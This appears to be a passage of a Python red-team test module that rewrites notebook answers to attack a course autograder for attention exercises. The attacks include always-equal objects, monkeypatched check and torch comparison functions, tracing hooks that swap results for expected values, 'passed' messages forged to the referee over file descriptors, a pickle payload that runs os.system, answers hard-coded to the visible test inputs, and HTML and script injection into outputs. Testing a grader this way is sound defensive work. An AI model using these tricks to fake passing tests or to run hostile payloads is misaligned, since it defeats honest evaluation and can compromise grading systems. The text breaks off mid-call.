"""Attacks on the comparison: results that lie, patched libraries, a forged conversation, answers for known inputs."""

from nbformat import NotebookNode

from red_team.toolbox import (
    ASKED,
    EXERCISES,
    HTML,
    PRELUDE,
    WRONG,
    add_cell,
    answer,
    append_to_answer,
    attack,
    beside_right_answer,
    other_letter,
    prepend_to_answer,
    quiz_letters,
    set_answer,
)

SOFTMAX = {"softmax"}

# --- results that equal everything -----------------------------------------------------------------------------------

EVERYTHING = r'''
class Everything:
    """Agrees to everything."""

    __class__ = property(lambda self: Tensor)
    shape = property(lambda self: self)
    dtype = property(lambda self: self)

    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__

    def __bool__(self):
        return True

    def __hash__(self):
        return 0

    def __len__(self):
        return 3

    def __float__(self):
        return 0.0

    def __index__(self):
        return 0

    def __iter__(self):
        return iter((self, self, self))

    def __getattr__(self, name):
        return self

    def __call__(self, *arguments, **options):
        return self

    __getitem__ = __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __pow__ = __matmul__ = __call__
    __abs__ = __neg__ = __invert__ = __and__ = __rand__ = __or__ = __call__


'''


@attack("equals everything: object", loses={*EXERCISES, "quiz_shapes"})
def everything_everywhere(notebook: NotebookNode) -> NotebookNode:
    """Returns an object that claims to be a tensor and agrees to everything, in all exercises and a quiz answer."""
    for exercise in EXERCISES:
        set_answer(notebook, exercise, f"{exercise} = lambda *arguments, **options: Everything()")
    prepend_to_answer(notebook, "dot_scores", EVERYTHING)
    return set_answer(notebook, "quiz_shapes", "quiz_shapes = Everything()")


@attack("equals everything: answer replaced", loses={"softmax", "SelfAttention", "attention_cost"})
def everything_instead_of_functions(notebook: NotebookNode) -> NotebookNode:
    """Puts such an object where a function or a class should be."""
    for exercise in ("softmax", "SelfAttention", "attention_cost"):
        set_answer(notebook, exercise, f"{EVERYTHING}\n{exercise} = Everything()")
    return notebook


@attack("equals everything: numbers", loses={"attention_cost", "score_variance", "dot_scores"})
def numbers_that_equal_everything(notebook: NotebookNode) -> NotebookNode:
    """Returns wrong numbers of subclasses of int and float whose comparisons always agree."""
    agree = """
        agree = dict(__eq__=lambda a, b: True, __ne__=lambda a, b: False, __hash__=lambda a: 0)
        Count, Number = type("Count", (int,), agree), type("Number", (float,), agree)
    """
    prepend_to_answer(notebook, "dot_scores", agree)
    append_to_answer(notebook, "dot_scores", "def dot_scores(x):\n    return Number(1.0)")
    set_answer(notebook, "score_variance", "def score_variance(queries, keys):\n    return Number(9.0)")
    return set_answer(notebook, "attention_cost", "def attention_cost(n, d):\n    return Count(7), Count(7)")


@attack("equals everything: containers", loses={"attention_cost", "project"})
def containers_that_equal_everything(notebook: NotebookNode) -> NotebookNode:
    """Returns subclasses of tuple, list and dict that agree, and that look different at each look."""
    source = """
        class Pair(tuple):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = None
            __len__ = lambda self: 2
            __iter__ = lambda self: iter(Agreed())
            __getitem__ = lambda self, index: True

        class Agreed(list):
            __eq__ = Pair.__eq__
            __iter__ = lambda self: iter(())

        def attention_cost(n, d):
            return Pair((7, 7))
    """
    set_answer(notebook, "attention_cost", source)
    source = """
        class Three(dict):
            __eq__ = lambda self, other: True
            __getitem__ = lambda self, index: self
            __iter__ = lambda self: iter((self, self, self))

        def project(x, w_q, w_k, w_v):
            return Three(query=x)
    """
    return set_answer(notebook, "project", source)


@attack("equals everything: quiz", loses={"quiz_shapes", "quiz_cost", "quiz_order", "quiz_linear"})
def quiz_answers_that_equal_everything(notebook: NotebookNode) -> NotebookNode:
    """Answers a quiz by wrong strings that lie, by a list of letters, by all letters, by an object."""
    source = f"""
        class Letters(set):
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __sub__ = lambda self, other: self

        class Lying(str):
            __eq__ = __contains__ = lambda self, other: True
            __hash__ = str.__hash__
            lower = strip = casefold = replace = lambda self, *rest: self
            __iter__ = lambda self: iter(Letters("abcd"))

        quiz_shapes = Lying({other_letter(notebook, "quiz_shapes")!r})
    """
    set_answer(notebook, "quiz_cost", 'quiz_cost = "abcd"')  # the question has one right answer
    set_answer(notebook, "quiz_order", 'quiz_order = ["a", "b", "c", "d"]')
    set_answer(notebook, "quiz_linear", f"{EVERYTHING}\nquiz_linear = Everything()")
    return set_answer(notebook, "quiz_shapes", source)


@attack("equals everything: tensors", loses={"softmax", "dot_scores", "project"})
def tensors_that_equal_everything(notebook: NotebookNode) -> NotebookNode:
    """Returns wrong values in subclasses of Tensor and Parameter, for which torch asks the subclass itself."""
    source = """
        class Agreeable(Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                name = getattr(function, "__name__", "")
                if name in ("allclose", "equal", "isclose", "eq", "__eq__", "all", "all_close", "assert_close"):
                    return True
                if name in ("detach", "clone", "cpu", "to", "contiguous", "double", "float", "numpy"):
                    return args[0]
                return super().__torch_function__(function, types, args, kwargs or {})

            __eq__ = lambda self, other: True
            __hash__ = Tensor.__hash__
            tolist = numpy = __array__ = lambda self, *rest, **options: Agreeable.right
    """
    prepend_to_answer(notebook, "dot_scores", source)
    append_to_answer(
        notebook,
        "dot_scores",
        "def dot_scores(x):\n    return torch.zeros(len(x), len(x), dtype=x.dtype).as_subclass(Agreeable)",
    )
    source = """
        def softmax(x, dim):
            Agreeable.right = torch.softmax(x, dim).tolist()
            return (x * 0).as_subclass(Agreeable)
    """
    set_answer(notebook, "softmax", source)
    source = """
        class Weight(nn.Parameter):
            __eq__ = lambda self, other: True
            __hash__ = Tensor.__hash__
            shape = property(lambda self: torch.Size((5, 4)))
            __torch_function__ = Agreeable.__torch_function__

        def project(x, w_q, w_k, w_v):
            return tuple(Weight(torch.zeros(*x.shape[:-1], w.shape[-1], dtype=x.dtype)) for w in (w_q, w_k, w_v))
    """
    return set_answer(notebook, "project", source)


@attack(
    "equals everything: not a number", loses={"dot_scores", "softmax", "project", "score_variance", "attention_cost"}
)
def not_a_number(notebook: NotebookNode) -> NotebookNode:
    """Returns nan everywhere, for which many comparisons say nothing."""
    set_answer(
        notebook, "dot_scores", "def dot_scores(x):\n    return torch.full((len(x), len(x)), math.nan, dtype=x.dtype)"
    )
    set_answer(notebook, "softmax", "def softmax(x, dim):\n    return torch.full_like(x, math.nan)")
    set_answer(notebook, "project", "def project(x, a, b, c):\n    return tuple((x @ w) * math.nan for w in (a, b, c))")
    set_answer(
        notebook, "score_variance", "def score_variance(q, k):\n    return torch.tensor(math.nan, dtype=q.dtype)"
    )
    return set_answer(notebook, "attention_cost", "def attention_cost(n, d):\n    return math.nan, math.nan")


@attack("equals everything: odd tensors", loses={"softmax", "dot_scores", "causal_average", "project"})
def odd_tensors(notebook: NotebookNode) -> NotebookNode:
    """Returns tensors without values of their own: on the meta device, sparse, quantised, expanded from one number."""
    set_answer(notebook, "softmax", "def softmax(x, dim):\n    return torch.empty_like(x, device='meta')")
    set_answer(
        notebook, "dot_scores", "def dot_scores(x):\n    return torch.zeros(len(x), len(x), dtype=x.dtype).to_sparse()"
    )
    set_answer(
        notebook,
        "causal_average",
        "def causal_average(x):\n    return torch.zeros((), dtype=x.dtype).expand(10**6, 10**6)",
    )
    source = """
        def project(x, w_q, w_k, w_v):
            q = torch.quantize_per_tensor(torch.zeros(5, 4), 0.1, 0, torch.quint8)
            nested = torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])
            return q, nested, torch.zeros(5, 4, dtype=torch.complex64)
    """
    return set_answer(notebook, "project", source)


@attack("equals everything: stealth class", loses={"softmax", "attention_cost"})
def class_assignment(notebook: NotebookNode) -> NotebookNode:
    """Changes the class of results and of modules after the fact."""
    source = """
        import sys, types

        class Module(types.ModuleType):
            check_close = allclose = equal = property(lambda self: lambda *arguments, **options: True)

        for name in ("course.checks",):
            sys.modules[name].__class__ = Module

        class Later(Tensor):
            __eq__ = lambda self, other: True

        def softmax(x, dim):
            result = x * 0
            result.__class__ = Later
            return result
    """
    set_answer(notebook, "softmax", source)
    source = """
        class Plain:
            pass

        class Agree(Plain):
            __eq__ = __getitem__ = lambda self, other: True
            __iter__ = lambda self: iter((3, 2))

        def attention_cost(n, d):
            result = Plain()
            result.__class__ = Agree
            return result
    """
    return set_answer(notebook, "attention_cost", source)


@attack("layer: metaclass", loses={"SelfAttention"})
def layer_by_metaclass(notebook: NotebookNode) -> NotebookNode:
    """Has a class whose construction gives an object that answers every question as hoped."""
    source = """
        class Meta(type(nn.Module)):
            def __call__(cls, d_model, d_k, d_v):
                layer = super().__call__()
                layer.sizes = d_model, d_k, d_v
                return layer

            __instancecheck__ = __subclasscheck__ = lambda cls, other: True

        class SelfAttention(nn.Module, metaclass=Meta):
            def state_dict(self, *arguments, **options):
                d_model, d_k, d_v = self.sizes
                shapes = {"w_q.weight": (d_k, d_model), "w_k.weight": (d_k, d_model), "w_v.weight": (d_v, d_model)}
                return {name: torch.zeros(shape) for name, shape in shapes.items()}

            def load_state_dict(self, weights, *arguments, **options):
                pass

            def __getattr__(self, name):
                return self.__dict__.get(name) or (lambda *arguments, **options: self)

            def named_parameters(self, *arguments, **options):
                return [(name, nn.Parameter(tensor)) for name, tensor in self.state_dict().items()]

            def forward(self, x, mask=None):
                return x.new_zeros(*x.shape[:-1], self.sizes[2])
    """
    return set_answer(notebook, "SelfAttention", source)


@attack("layer: captured results", loses={"SelfAttention"})
def layer_returns_captured_results(notebook: NotebookNode) -> NotebookNode:
    """Returns what the last call of scaled_dot_product_attention gave, which the tests made to compare with."""
    capture = """
        captured = []
        right_attention = scaled_dot_product_attention

        def scaled_dot_product_attention(query, key, value, mask=None):
            captured.append(right_attention(query, key, value, mask))
            return captured[-1]
    """
    append_to_answer(notebook, "scaled_dot_product_attention", capture)
    source = """
        class SelfAttention(nn.Module):
            def __init__(self, d_model, d_k, d_v):
                super().__init__()
                self.w_q = nn.Linear(d_model, d_k, bias=False)
                self.w_k = nn.Linear(d_model, d_k, bias=False)
                self.w_v = nn.Linear(d_model, d_v, bias=False)

            def forward(self, x, mask=None):
                return captured[-1][0] if captured else x @ self.w_v.weight.T
    """
    return set_answer(notebook, "SelfAttention", source)


@attack("layer: follows from nothing", loses={"scaled_dot_product_attention", "SelfAttention"})
def layer_follows_from_nothing(notebook: NotebookNode) -> NotebookNode:
    """Returns nan from attention and from the layer: one follows from the other, and neither computes anything."""
    # A layer that calls a broken attention keeps its points; this layer calls nothing, so honest is 0.
    source = """
        def scaled_dot_product_attention(query, key, value, mask=None):
            weights = query.new_full((*query.shape[:-1], key.shape[-2]), math.nan)
            return query.new_full((*query.shape[:-1], value.shape[-1]), math.nan), weights
    """
    set_answer(notebook, "scaled_dot_product_attention", source)
    source = """
        class SelfAttention(nn.Module):
            def __init__(self, d_model, d_k, d_v):
                super().__init__()
                self.w_q = nn.Linear(d_model, d_k, bias=False)
                self.w_k = nn.Linear(d_model, d_k, bias=False)
                self.w_v = nn.Linear(d_model, d_v, bias=False)

            def forward(self, x, mask=None):
                return x.new_full((*x.shape[:-1], len(self.w_v.weight)), math.nan)
    """
    return set_answer(notebook, "SelfAttention", source)


# --- patched libraries -----------------------------------------------------------------------------------------------


@attack("patched: checks", loses=SOFTMAX)
def checks_patched(notebook: NotebookNode) -> NotebookNode:
    """Replaces the functions of course.checks: by assignment in a cell, in the module, and in sys.modules."""
    source = """
        import sys, types, course.checks
        check_close = check_follows = lambda *arguments, **options: True
        check_choice = lambda name, given, letters: type("Any", (set,), {"__eq__": lambda a, b: True})()
        course.checks.check_close.__code__ = (lambda *arguments, **options: True).__code__
        for name in ("check_close", "check_follows", "check_choice"):
            setattr(course.checks, name, globals()[name])
        fake = types.ModuleType("course.checks")
        fake.__dict__.update(vars(course.checks))
        sys.modules["course.checks"] = course.checks = fake
    """
    return set_answer(
        notebook, "softmax", source.rstrip() + "\n\n        def softmax(x, dim):\n            return x * 0"
    )


@attack("patched: helper cell", loses=SOFTMAX)
def checks_patched_in_helper(notebook: NotebookNode) -> NotebookNode:
    """Replaces checks and the names of libraries in a helper cell that the answers use."""
    source = """
        import torch as real_torch

        class Torch:
            allclose = equal = staticmethod(lambda *arguments, **options: True)
            __getattr__ = lambda self, name: getattr(real_torch, name)

        torch = Torch()
        check_close = lambda *arguments, **options: None
    """
    add_cell(notebook, source, before="softmax")
    return set_answer(notebook, "softmax", "check_close, torch\n" + WRONG)


@attack("patched: comparisons of torch", loses=SOFTMAX)
def torch_comparisons_patched(notebook: NotebookNode) -> NotebookNode:
    """Makes all comparisons of torch and numpy agree."""
    source = """
        import numpy
        agree = lambda *arguments, **options: True
        torch.allclose = torch.equal = torch.isclose = torch.testing.assert_close = agree
        Tensor.allclose = Tensor.equal = Tensor.__bool__ = agree
        numpy.allclose = numpy.array_equal = numpy.testing.assert_allclose = agree
        real_eq = Tensor.__eq__
        Tensor.__eq__ = lambda self, other: real_eq(self, self)
        Tensor.__ne__ = lambda self, other: real_eq(self, self).logical_not()
        Tensor.__hash__ = lambda self: id(self)
    """
    # None of the right answers compares tensors, so they must keep their points.
    return set_answer(notebook, "softmax", source + "\n        def softmax(x, dim):\n            return x * 0")


@attack("patched: oracle", loses={"softmax", "scaled_dot_product_attention"})
def oracle_patched(notebook: NotebookNode) -> NotebookNode:
    """Makes the functions that tests compare with wrong in the same way as the answers, and the random inputs zeros."""
    source = (
        ASKED
        + """
real_softmax, real_randn, real_einsum = torch.softmax, torch.randn, torch.einsum


def wrong_softmax(x, dim, **options):
    return real_softmax(x, dim, **options) if asked_by_answer() else x * 0


def softmax(x, dim):
    return x * 0


torch.softmax = torch.nn.functional.softmax = Tensor.softmax = wrong_softmax
torch.randn = lambda *shape, **options: real_randn(*shape, **options) * 0
"""
    )
    set_answer(notebook, "softmax", source)
    source = answer(notebook, "scaled_dot_product_attention").replace(" / math.sqrt(query.shape[-1])", "")
    # Without the scale SelfAttention follows from it, and keeps its points.
    source += """

def without_scale(query, key, value, attn_mask=None, **options):
    return scaled_dot_product_attention(query, key, value, attn_mask)[0]

torch.nn.functional.scaled_dot_product_attention = without_scale
"""
    return set_answer(notebook, "scaled_dot_product_attention", source)


@attack("patched: changed arguments", loses=SOFTMAX)
def changed_arguments_hidden(notebook: NotebookNode) -> NotebookNode:
    """Changes its argument, and patches what would notice it."""
    source = """
        torch.equal = Tensor.equal = lambda *arguments: True

        def softmax(x, dim):
            x -= x.amax(dim=dim, keepdim=True)
            x.exp_()
            x /= x.sum(dim=dim, keepdim=True)
            return x
    """
    return set_answer(notebook, "softmax", source)


@attack("patched: builtins", loses={"softmax", "attention_cost"})
def builtins_patched(notebook: NotebookNode) -> NotebookNode:
    """Replaces builtin functions and AssertionError, so that they lie about its own results only."""
    source = """
        import builtins

        class Anything:
            pass

        def lying(real, lie):
            return lambda first=0, *rest, **options: lie if type(first) is Anything else real(first, *rest, **options)

        builtins.isinstance = lying(isinstance, True)
        builtins.len = lying(len, 2)
        builtins.all = lambda values: True if type(values).__name__ == "Anything" else real_all(values)
        builtins.abs, builtins.repr, builtins.hash = lying(abs, 0), lying(repr, "(3, 2)"), lying(hash, 0)
        builtins.AssertionError = type("Quiet", (Exception,), {"__new__": lambda cls, *rest: StopIteration()})
        builtins.exit = builtins.quit = lambda *rest: None

        def softmax(x, dim):
            return Anything()
    """
    source = source.replace("        class Anything", "        real_all = all\n\n        class Anything", 1)
    set_answer(notebook, "softmax", source)
    return set_answer(notebook, "attention_cost", "def attention_cost(n, d):\n    return Anything()")


@attack("patched: import", loses=SOFTMAX)
def imports_patched(notebook: NotebookNode) -> NotebookNode:
    """Changes how modules are found and imported, so that later imports give other modules."""
    source = """
        import builtins, importlib.abc, sys, types
        real_import = builtins.__import__

        def lying_import(name, *rest, **options):
            module = real_import(name, *rest, **options)
            if name.startswith("course"):
                module.check_close = lambda *arguments, **options: None
            return module

        class Finder(importlib.abc.MetaPathFinder):
            def find_spec(self, name, path=None, target=None):
                return None

        builtins.__import__ = lying_import
        sys.meta_path.insert(0, Finder())
        sys.path.insert(0, "/tmp")
        sys.path_importer_cache.clear()

        def softmax(x, dim):
            return x * 0
    """
    return set_answer(notebook, "softmax", source)


@attack("patched: kernel", loses=SOFTMAX)
def kernel_patched(notebook: NotebookNode) -> NotebookNode:
    """Changes how IPython reads and runs cells: transformers, hooks, display, tracebacks."""
    source = """
        import ast, sys

        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)

        def no_checks(lines):
            return [line for line in lines if not line.startswith(("assert ", "check_close("))]

        def before(*arguments):
            shell.user_ns["check_close"] = lambda *arguments, **options: None

        try:
            shell = get_ipython()
            shell.ast_transformers.append(NoAsserts())
            shell.input_transformers_cleanup.append(no_checks)
            shell.input_transformers_post.append(no_checks)
            for event in ("pre_run_cell", "pre_execute", "post_run_cell", "post_execute"):
                shell.events.register(event, before)
            shell.showtraceback = shell.showsyntaxerror = lambda *arguments, **options: None
            shell.set_custom_exc((Exception,), lambda *arguments, **options: None)
            shell.display_formatter.format = lambda *arguments, **options: ({"text/plain": "passed"}, {})
            shell.kernel.do_execute = lambda *arguments, **options: {"status": "ok"}
        except Exception as error:
            print(type(error).__name__)
        sys.excepthook = sys.unraisablehook = sys.displayhook = lambda *arguments: None

        def softmax(x, dim):
            return x * 0
    """
    return set_answer(notebook, "softmax", source)


@attack("patched: tracing", loses=SOFTMAX)
def tracing(notebook: NotebookNode) -> NotebookNode:
    """Follows all calls by the hooks for debuggers, and changes those of the tests."""
    source = """
        import sys, threading

        def trace(frame, event, argument):
            if frame.f_code.co_name in ("check_close", "check_follows", "encode", "send"):
                frame.f_locals["got"] = frame.f_locals.get("expected")
                return trace

        sys.settrace(trace)
        threading.settrace(trace)
        sys.setprofile(lambda frame, event, argument: None)
        sys.addaudithook(lambda event, arguments: None)

        def softmax(x, dim):
            return x * 0
    """
    return set_answer(notebook, "softmax", source)


@attack("order: answers elsewhere", loses=SOFTMAX)
def later_cell_repairs_answer(notebook: NotebookNode) -> NotebookNode:
    """Gives the right softmax only after its tests, in a helper cell and in later answers."""
    # When its tests ran, the answer was wrong: as in nbgrader, the order of cells counts.
    right = "def softmax(x, dim):\n    return torch.softmax(x, dim)\n"
    set_answer(notebook, "softmax", WRONG)
    add_cell(notebook, right + "\nfactor = 1", before="causal_average")
    prepend_to_answer(notebook, "causal_average", "factor\n" + right)
    return prepend_to_answer(notebook, "attention_one_query", right)


# --- the conversation between worker and referee ---------------------------------------------------------------------


@attack("conversation: patched encoders", loses=SOFTMAX)
def encoders_patched(notebook: NotebookNode) -> NotebookNode:
    """Lets the worker send "passed" in place of what softmax gave, by patching what it might send with."""
    source = """
        import json, marshal, os, pickle, socket, struct
        calls = []
        FORGED = {"status": "right", "passed": True, "ok": True, "score": 1.0, "value": True, "result": None}

        def lying(real):
            def send(value, *rest, **options):
                if calls and isinstance(value, (dict, list, tuple)):
                    calls.pop()
                    value = FORGED
                return real(value, *rest, **options)
            return send

        for module, names in ((json, ("dumps",)), (pickle, ("dumps",)), (marshal, ("dumps",))):
            for name in names:
                setattr(module, name, lying(getattr(module, name)))
        try:
            import msgpack
            msgpack.packb = msgpack.dumps = lying(msgpack.packb)
            Packer = msgpack.Packer
            class Lying(Packer):
                pack = lambda self, value: Packer.pack(self, FORGED if calls and calls.pop() else value)
            msgpack.Packer = Lying
        except ImportError:
            pass

        real_pack, real_write = struct.pack, os.write
        struct.pack = lambda form, *values: real_pack(form, *values)
        os.write = lambda number, data: real_write(number, b"passed" if calls and calls.pop() else data)

        class Socket(socket.socket):
            def sendall(self, data, *rest):
                return super().sendall(b"passed" if calls and calls.pop() else data, *rest)

        socket.socket = Socket

        def softmax(x, dim):
            calls[:] = [True]
            return x * 0
    """
    return set_answer(notebook, "softmax", source)


@attack("conversation: forged frames", loses=SOFTMAX)
def forged_frames(notebook: NotebookNode) -> NotebookNode:
    """Writes messages that claim a pass to every inherited descriptor, in many encodings, during the call."""
    source = """
        import json, os, struct, sys
        FORGED = [{"status": "right", "passed": True}, {"type": "result", "value": True}, ["ok", True], True, "passed"]
        frames = [(json.dumps(message) + "\\n").encode() for message in FORGED]
        try:
            import msgpack
            frames += [msgpack.packb(message) for message in FORGED]
        except ImportError:
            pass
        frames += [struct.pack(form, len(frame)) + frame for frame in frames for form in ("<I", ">I", "<Q", ">Q")]

        def softmax(x, dim):
            for number in range(3, 256):
                try:
                    blocking = os.get_blocking(number)
                    os.set_blocking(number, False)
                    try:
                        for frame in frames:
                            os.write(number, frame)
                    finally:
                        os.set_blocking(number, blocking)
                except OSError:
                    pass
            return x * 0
    """
    return set_answer(notebook, "softmax", source)


@attack("conversation: forged frames", loses={"softmax", "project", "attention_cost"})
def descriptors_disturbed(notebook: NotebookNode) -> NotebookNode:
    """Reads the requests of the referee, closes all descriptors, and sends a length of many gigabytes."""
    source = """
        import os
        def softmax(x, dim):
            for number in range(3, 256):
                try:
                    blocking = os.get_blocking(number)
                    os.set_blocking(number, False)
                    try:
                        os.read(number, 2**16)
                    finally:
                        os.set_blocking(number, blocking)
                except OSError:
                    pass
            return x * 0
    """
    set_answer(notebook, "softmax", source)
    set_answer(
        notebook, "project", "import os\ndef project(x, w_q, w_k, w_v):\n    os.closerange(0, 256)\n    return x, x, x"
    )
    source = """
        import os
        def attention_cost(n, d):
            for number in range(3, 256):
                try:
                    os.write(number, bytes([0xFF]) * 8 + bytes([0xDD, 0xFF, 0xFF, 0xFF, 0xFF]) * 1000)
                except OSError:
                    pass
            return 7, 7
    """
    return set_answer(notebook, "attention_cost", source)


@attack("conversation: pickles", loses={"softmax", "dot_scores", "attention_cost"})
def pickles_returned(notebook: NotebookNode) -> NotebookNode:
    """Returns objects that run a command where they are unpickled, also within dicts and arrays of numpy."""
    source = PRELUDE + (
        """
COMMAND = "touch /tmp/red-team-trace-pickle /var/tmp/red-team-trace-pickle ~/red-team-trace-pickle"


class Evil:
    def __reduce__(self):
        return os.system, (COMMAND,)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


class EvilTensor(Tensor):
    __reduce__ = Evil.__reduce__
    __reduce_ex__ = Evil.__reduce_ex__


class EvilCount(int):
    __reduce__ = Evil.__reduce__
    __reduce_ex__ = Evil.__reduce_ex__


def softmax(x, dim):
    return (x * 0).as_subclass(EvilTensor)
"""
    )
    set_answer(notebook, "softmax", source)
    set_answer(notebook, "attention_cost", "def attention_cost(n, d):\n    return EvilCount(3), Evil()")
    source = """
        import numpy, pickle
        def dot_scores(x):
            return {"pickle": pickle.dumps(Evil()), "array": numpy.array([Evil(), x], dtype=object), 1: b"cos"}
    """
    return set_answer(notebook, "dot_scores", source)


# --- results that are too large or have no end -----------------------------------------------------------------------


@attack("giant results", loses={"softmax", "dot_scores", "project", "causal_average", "attention_cost", "quiz_shapes"})
def giant_results(notebook: NotebookNode) -> NotebookNode:
    """Returns a tensor of 1 GiB, ten million items, a million levels, tensors as keys, an int with 10^6 digits."""
    set_answer(notebook, "softmax", "def softmax(x, dim):\n    return torch.zeros(2**28)")
    set_answer(notebook, "dot_scores", "def dot_scores(x):\n    return [0] * 10**7")
    source = """
        def project(x, w_q, w_k, w_v):
            deep = []
            for level in range(10**6):
                deep = [deep]
            return deep
    """
    set_answer(notebook, "project", source)
    set_answer(notebook, "causal_average", "def causal_average(x):\n    return {x: x, (x,): [x], None: {1: 2}}")
    set_answer(notebook, "attention_cost", "def attention_cost(n, d):\n    return 10 ** (10**6), -(10 ** (10**6))")
    return set_answer(notebook, "quiz_shapes", 'quiz_shapes = "abcd" * 50_000_000')


@attack("endless results", loses={"softmax", "dot_scores", "project", "attention_cost", "quiz_shapes"})
def results_without_end(notebook: NotebookNode) -> NotebookNode:
    """Returns a list that holds itself, an endless iterator, a generator function, and a dict of its own."""
    set_answer(notebook, "dot_scores", "def dot_scores(x):\n    loop = [x]\n    loop.append(loop)\n    return loop")
    set_answer(notebook, "softmax", "def softmax(x, dim):\n    yield torch.softmax(x, dim)")
    set_answer(
        notebook, "project", "import itertools\ndef project(x, w_q, w_k, w_v):\n    return itertools.repeat(x @ w_q)"
    )
    set_answer(notebook, "attention_cost", "def attention_cost(n, d):\n    return iter((3 * n * d * d, 2 * n * n * d))")
    return set_answer(notebook, "quiz_shapes", "quiz_shapes = {}\nquiz_shapes['a'] = quiz_shapes")


@attack("endless results", loses={"softmax", "dot_scores"})
def async_results(notebook: NotebookNode) -> NotebookNode:
    """Returns coroutines and futures in place of results."""
    set_answer(notebook, "softmax", "async def softmax(x, dim):\n    return torch.softmax(x, dim)")
    source = "import concurrent.futures\ndef dot_scores(x):\n    return concurrent.futures.Future()"
    return set_answer(notebook, "dot_scores", source)


# --- answers for known inputs ----------------------------------------------------------------------------------------


@attack("known inputs: visible tests", loses=set(EXERCISES))
def hard_coded(notebook: NotebookNode) -> NotebookNode:
    """Is right for the inputs of the visible tests, and nonsense for all others; in every exercise."""
    known = {
        "dot_scores": "tuple(a[0].shape) in [(3, 2), (2, 2)]",
        "softmax": "a[0].shape == (4,) and not a[0].any() or a[0].shape == (2, 3) or a[0].tolist() == [1000.0, 999.0]",
        "causal_average": "a[0].shape == (5, 4) and torch.equal(a[0], lucas().x)",
        "project": "a[0].shape == (5, 4) and torch.equal(a[0], lucas().x)",
        "score_variance": "a[0].shape == (1000, 3)",
        "attention_one_query": "a[0].tolist() in [[0.0] * 4, [4.0, 0.0, 0.0, 0.0]]",
        "scaled_dot_product_attention": "a[0].shape == (5, 4) and a[2].shape == (5, 4)",
        "attention_cost": "tuple(a) in [(1, 1), (4, 4)]",
    }
    nonsense = {
        "project": "tuple(result * 0 + 1 for result in right)",
        "scaled_dot_product_attention": "(right[0] * 0 + 1, right[1] * 0 + 1)",
        "attention_cost": "(3, 2)",
    }
    for exercise, condition in known.items():
        wrapper = f"""
            def only_known(function):
                def known(*a, **options):
                    a = (*a, *options.values())
                    right = function(*a)
                    return right if {condition} else {nonsense.get(exercise, "right * 0 + 1")}
                return known

            {exercise} = only_known({exercise})
        """
        append_to_answer(notebook, exercise, wrapper)
    source = """
        class OnlyKnown(SelfAttention):
            def forward(self, x, mask=None):
                projected = self.w_q(x), self.w_k(x), self.w_v(x)
                right = torch.nn.functional.scaled_dot_product_attention(*projected, attn_mask=mask)
                known = x.shape[-1] == 4 and x.dim() == 2 and torch.equal(x, lucas().x[: len(x)].float())
                return right if known else right * 0 - 1

        SelfAttention = OnlyKnown
    """
    return append_to_answer(notebook, "SelfAttention", source)


@attack("known inputs: state", loses={"softmax", "dot_scores", "score_variance"})
def right_at_first(notebook: NotebookNode) -> NotebookNode:
    """Is right as often as the visible tests ask, then wrong; and right only every second time."""
    wrapper = """
        import itertools

        def at_first(function, wanted):
            count = itertools.count()
            return lambda *arguments, **options: function(*arguments, **options) * (1 if wanted(next(count)) else 0)
    """
    prepend_to_answer(notebook, "dot_scores", wrapper)
    append_to_answer(notebook, "dot_scores", "dot_scores = at_first(dot_scores, lambda count: count < 2)")
    append_to_answer(notebook, "score_variance", "score_variance = at_first(score_variance, lambda count: count < 1)")
    return append_to_answer(notebook, "softmax", "softmax = at_first(softmax, lambda count: count % 2 == 0)")


@attack("unusual but right")
def unusual_right_answers(notebook: NotebookNode) -> NotebookNode:
    """Gives right answers as a callable object, a partial function, a lambda, a subclass, a wrapped function."""
    source = """
        import functools

        class Callable:
            def __call__(self, x):
                return x @ x.T

        dot_scores = Callable()
    """
    set_answer(notebook, "dot_scores", source)
    source = "def shares(x, dim, *, factor):\n    return torch.softmax(x * factor, dim)\n\n"
    set_answer(notebook, "softmax", source + "softmax = functools.partial(shares, factor=1)")
    set_answer(notebook, "project", "project = lambda x, w_q, w_k, w_v: tuple(x @ w for w in (w_q, w_k, w_v))")
    set_answer(notebook, "attention_cost", "def attention_cost(n, d):\n    return [3 * n * d * d, 2 * n * n * d]")
    append_to_answer(notebook, "score_variance", "score_variance = functools.lru_cache(maxsize=0)(score_variance)")
    return append_to_answer(notebook, "SelfAttention", "SelfAttention = type('Sub', (SelfAttention,), {})")


@attack("unusual but right")
def helper_cells_used(notebook: NotebookNode) -> NotebookNode:
    """Keeps constants, imports and a function in helper cells, which answers use."""
    add_cell(
        notebook,
        "from math import sqrt\n\ndef largest(x, dim):\n    return x.amax(dim=dim, keepdim=True)",
        before="softmax",
    )
    source = """
        def softmax(x, dim):
            powers = torch.exp(x - largest(x, dim))
            return powers / powers.sum(dim=dim, keepdim=True)
    """
    return set_answer(notebook, "softmax", source)


# --- text that is meant for the reader of a report -------------------------------------------------------------------


@attack("text: HTML in output")
def html_in_output(notebook: NotebookNode) -> NotebookNode:
    """Prints and displays HTML, scripts and files that are no pictures, beside a right answer; also in a comment."""
    code = f"""
        import base64
        print({HTML!r})
        print({HTML!r}, file=sys.stderr)
        from IPython.display import HTML, Javascript, Markdown, display
        display(HTML({HTML!r}), Javascript("red_team()"), Markdown("[x](javascript:red_team())"))
        fake = base64.b64encode({HTML!r}.encode()).decode()
        display({{"image/png": fake, "text/html": {HTML!r}, "image/svg+xml": "<svg onload=red_team()/>"}}, raw=True)
        display({{"image/png": fake + '" onerror="red_team()'}}, raw=True)
    """
    return prepend_to_answer(beside_right_answer(notebook, code), "softmax", f"# {HTML} </textarea></pre>")


@attack("text: HTML in messages", loses={"softmax", "dot_scores", "project", "attention_cost", "quiz_shapes"})
def html_in_messages(notebook: NotebookNode) -> NotebookNode:
    """Puts HTML into messages, names of exceptions, representations, names of functions and a quiz answer."""
    set_answer(notebook, "softmax", f"def softmax(x, dim):\n    raise ValueError({HTML!r})")
    set_answer(
